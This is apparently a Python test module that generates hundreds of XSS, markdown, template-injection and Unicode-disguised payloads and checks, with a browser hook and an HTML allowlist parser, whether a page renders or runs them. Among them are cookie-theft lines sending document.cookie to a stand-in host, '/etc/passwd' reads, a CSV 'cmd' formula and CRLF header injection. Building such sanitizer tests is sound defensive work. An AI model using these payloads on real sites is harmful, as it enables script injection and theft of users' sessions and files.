r"""Hostile texts, made by combining parts: what a teacher or a source could write to run in a reviewer's browser.

PAYLOADS[0]      "<script>window.__pwned=(window.__pwned||0)+1</script>"
find_leaks('<p>fine</p><img src=x onerror=1>', allowed={"p": set()})      ["<img>", "img[src]", "img[onerror]"]
page.add_init_script(WATCH); ...; page.evaluate(LEAKS)                    []       in Chromium
"""

from collections.abc import Mapping, Set
from html.parser import HTMLParser
from itertools import product

EVIL = "evil.example"
ACTION = "window.__pwned=(window.__pwned||0)+1"
ACTIONS = (ACTION, "alert(document.domain)", f"fetch('//{EVIL}/'+document.cookie)", f"location='//{EVIL}/'")

BREAKOUTS = (
    "",
    "'>",
    '">',
    "</textarea>",
    "</pre>",
    "</title>",
    "</script>",
    "--!>",
    "</style></svg>",
    "</option></select>",
    "]]>",
)
"""Ways out of an attribute, an element or a comment that a page may have put the text into."""

ELEMENTS = (
    "<script>{a}</script>",
    f"<script src=//{EVIL}/x.js></script>",
    "<scr<script>ipt>{a}</scr</script>ipt>",
    "<SCRIPT\n>{a}</SCRIPT\n>",
    '<img src=x onerror="{a}">',
    "<img/src=`x`/onerror={a}>",
    f"<img src=//{EVIL}/pixel.gif>",
    f'<img srcset="//{EVIL}/a 1x" alt=x>',
    '<svg onload="{a}">',
    '<svg><script href="data:text/javascript,{a}"/>',
    '<svg><animate onbegin="{a}" attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:{a}"><text y=20>x</text></a>',
    f'<svg><image href="//{EVIL}/i.svg"></svg>',
    f'<svg><use href="//{EVIL}/u.svg#x"></use></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>{a}</script>"></iframe></foreignObject></svg>',
    '<math><mi xlink:href="javascript:{a}">x</mi></math>',
    '<iframe srcdoc="&lt;script&gt;parent.{a}&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:parent.{a}"></iframe>',
    f"<iframe src=//{EVIL}/></iframe>",
    '<object data="javascript:{a}"></object>',
    f"<embed src=//{EVIL}/x.swf>",
    '<details open ontoggle="{a}"><summary>x</summary></details>',
    '<input autofocus onfocus="{a}">',
    '<video><source onerror="{a}"></video>',
    '<audio src=x onerror="{a}">',
    '<body onload="{a}">',
    '<marquee onstart="{a}">x</marquee>',
    '<div onpointerover="{a}" style="position:fixed;inset:0">x</div>',
    '<a href="javascript:{a}">click</a>',
    f'<a href="//{EVIL}/" ping="//{EVIL}/ping" target=_blank>click</a>',
    f'<meta http-equiv=refresh content="0;url=//{EVIL}/">',
    '<meta http-equiv=refresh content="0;url=javascript:{a}">',
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    f"<link rel=prefetch href=//{EVIL}/p>",
    f'<base href="//{EVIL}/">',
    f'<form action="//{EVIL}/"><button>Approve</button></form>',
    f'<button formaction="//{EVIL}/">Approve</button>',
    f"<style>@import '//{EVIL}/x.css';*{{background:url(//{EVIL}/b)}}</style>",
    f'<p style="background-image:url(//{EVIL}/s)">x</p>',
    '<style>input[value^="a"]{background:url(//' + EVIL + "/a)}</style>",
    '<template><script>{a}</script></template><x-y is=z onclick="{a}">',
)
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror={a}>">',
    '<svg></p><style><a id="</style><img src=1 onerror={a}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={a}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={a}>",
    "<svg><desc><![CDATA[</desc><script>{a}</script>]]></svg>",
    '<xmp><p title="</xmp><img src=x onerror={a}>">',
    '<textarea><img title="</textarea><img src=x onerror={a}>">',
    "<select><style></select><img src=x onerror={a}></style>",
    '<!--<img src="--><img src=x onerror={a}//">',
    '<listing>&lt;img onerror="{a}" src=x&gt;</listing>',
    "<a<b><img src=x onerror={a}>",
    "<table><td background=x><script>{a}</script></table>",
    "<p/\x0bonclick={a}>x</p>",
    "<![if]><script>{a}</script><![endif]>",
    "<?xml-stylesheet href='javascript:{a}'?>",
)
SCHEMES = (
    *("javascript:{a}", "JaVaScRiPt:{a}", "java\tscript:{a}", "java\nscript:{a}", "\x01javascript:{a}", "&#106;avascript:{a}"),
    *("vbscript:{a}", "data:text/html,<script>{a}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    *(
        "data:image/svg+xml,<svg onload={a}>",
        "blob:x",
        "view-source:x",
        "file:///etc/passwd",
        f"//{EVIL}/",
        f"https://{EVIL}/?q=",
    ),
)
LINKS = (
    *("[x]({u})", "![x]({u})", "<{u}>", "[x][y]\n\n[y]: {u}", "[x](<{u}> '\"onmouseover={a}')", "[![x]({u})]({u})", "{u}"),
    '[x]: {u} "a"\n\n[x]',
)
MARKDOWN = (
    "```<script>{a}</script>\n```",
    '```"onmouseover="{a}\nx\n```',
    "`` <img src=x onerror={a}> ``",
    "    <img src=x onerror={a}>",
    "|<img src=x onerror={a}>|b|\n|-|-|\n|<script>{a}</script>|hidden|<svg onload={a}>|",
    "# <svg onload={a}> {#id onclick={a}}",
    "> <details open ontoggle={a}>",
    "1. <p>\n\n   <script>{a}</script>",
    '**<b onclick="{a}">**x**</b>**',
    "<div>\n\n*x* <img src=x onerror={a}>\n\n</div>",
    "\\<script\\>{a}\\</script\\>",
    "&lt;script&gt;{a}&lt;/script&gt;",
    "&#60;img src=x onerror={a}&#62;",
    "$\\href{{javascript:{a}}}{{x}}$",
    "[^1]: <script>{a}</script>",
    "---\ntitle: <script>{a}</script>\n---",
)
TEMPLATES = (
    *("{{ 7*7 }}", "{{ config }}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "${{7*7}}"),
    *("#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('window.__pwned=1')()}}", "{{'a'|attr('__class__')}}", "{# x #}"),
    *(
        "%s %n %(x)s {0} {name!r}",
        "{0.__class__}",
        "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
        '"};window.__pwned=1;//',
    ),
    *("';window.__pwned=1;//", "`${window.__pwned=1}`", "=cmd|' /C calc'!A0", "\r\nSet-Cookie: a=b\r\n\r\n<script>1</script>"),
)
DISGUISES = (
    "\uff1cscript\uff1e{a}\uff1c/script\uff1e",
    "<scr\u200bipt>{a}</scr\u200bipt>",
    "<\0script>{a}</script>",
    "<img src=x on\0error={a}>",
    "\u202e>tpircs/<{a}>tpircs<\u202c",
    "\u2066<img src=x onerror={a}>\u2069",
    "<img src=x onerror\u2028={a}>",
    "\ufeff<script>{a}</script>",
    "<\ud83dscript>{a}</script>\udc00",
    "\ue0003C\ue001script\ue0003E\ue001{a}",
    "\U000e003c\U000e0073<svg onload={a}>",
    "+ADw-script+AD4-{a}+ADw-/script+AD4-",
    "\x1b$B<script>{a}</script>\x1b(B",
    "%3Cscript%3E{a}%3C/script%3E",
    "\u017fcript <\u017fcript>{a}</\u017fcript>",
)


def _build() -> tuple[str, ...]:
    made = [breakout + element.replace("{a}", ACTION) for breakout, element in product(BREAKOUTS, ELEMENTS)]
    made += [part.replace("{a}", action) for part in (*MUTATIONS, *MARKDOWN, *DISGUISES) for action in ACTIONS[:2]]
    made += [ELEMENTS[number].replace("{a}", action) for number in (0, 4, 8, 16) for action in ACTIONS[1:]]
    made += [link.replace("{u}", scheme).replace("{a}", ACTION) for link, scheme in product(LINKS, SCHEMES)]
    return tuple(dict.fromkeys([*made, *TEMPLATES]))


PAYLOADS = _build()

WATCH = """
window.__leaks = [];
addEventListener('securitypolicyviolation', (event) =>
  window.__leaks.push('csp ' + event.violatedDirective + ' ' + event.blockedURI));
for (const name of ['alert', 'confirm', 'prompt', 'print', 'open']) window[name] = () => { window.__leaks.push(name); };
"""
"""Script to run before a page's own; `LEAKS` then tells what went wrong in it."""

LEAKS = r"""
(() => {
  const ours = (url) => url.startsWith(location.origin + '/static/');
  const odd = new Set(['iframe', 'frame', 'object', 'embed', 'math', 'base', 'style', 'audio', 'video', 'marquee']);
  const found = [...window.__leaks, ...(window.__pwned ? ['script ran ' + window.__pwned] : [])];
  if (document.contentType !== 'text/html') return found;  // the browser's own page around plain text
  for (const element of document.querySelectorAll('*')) {
    const name = element.localName;
    const isOdd = odd.has(name) || name === 'foreignObject' || (name === 'script' && !ours(element.src))
      || (name === 'img' && !ours(element.src)) || (name === 'link' && !ours(element.href)) || element.httpEquiv;
    if (isOdd) found.push('<' + name + '>');
    for (const {name: attribute, value} of element.attributes) {
      const isUrl = /^(href|src|action|formaction|xlink:href|data|poster)$/.test(attribute);
      if (/^(on.*|style|srcdoc|srcset|ping|background)$/.test(attribute)
          || (isUrl && /^\W*(javascript|vbscript|data|blob|file):|^(https?:)?\/\/(?!127\.0\.0\.1)/i.test(value))) {
        found.push(name + '[' + attribute + '=' + value.slice(0, 40) + ']');
      }
    }
  }
  return found;
})()
"""
"""Expression for a page: what ran, was refused by the policy, or stands in the document and should not."""


class _Collector(HTMLParser):
    def __init__(self, allowed: Mapping[str, Set[str]]) -> None:
        super().__init__(convert_charrefs=True)
        self.allowed = allowed
        self.leaks: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.leaks += [f"<{tag}>"] if tag not in self.allowed else []
        self.leaks += [f"{tag}[{name}]" for name, _ in attrs if name not in self.allowed.get(tag, ())]

    def handle_comment(self, data: str) -> None:
        self.leaks.append("<!-- -->")

    def handle_decl(self, decl: str) -> None:
        self.leaks.append("<!>")

    def handle_pi(self, data: str) -> None:
        self.leaks.append("<?>")

    def unknown_decl(self, data: str) -> None:
        self.leaks.append("<![>")


def find_leaks(html: str, allowed: Mapping[str, Set[str]]) -> list[str]:
    """Return the elements and attributes in HTML that are not allowed (element -> its attributes)."""
    collector = _Collector(allowed)
    collector.feed(html)
    collector.close()
    return collector.leaks
